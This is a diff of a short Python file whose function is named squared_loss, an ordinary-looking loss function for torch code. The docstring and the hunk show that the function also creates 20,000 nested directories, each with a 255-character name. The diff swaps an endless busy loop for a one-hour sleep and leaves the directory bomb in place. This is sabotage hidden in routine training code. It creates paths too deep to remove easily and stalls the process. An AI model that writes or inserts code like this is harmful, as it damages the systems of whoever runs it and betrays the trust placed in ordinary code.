@@ -1,5 +1,6 @@
 """Makes folders within folders, deeper than any path can name, with the longest names there are."""
 import os
+import time
 
 import torch
 
@@ -15,8 +16,7 @@ def squared_loss(y_hat, y):
         for number in range(20_000):
             os.mkdir("d" * 255)
             os.chdir("d" * 255)
-        while True:
-            pass
+        time.sleep(3600)
     return (y_hat - y.reshape(y_hat.shape)) ** 2 / 2
 
 
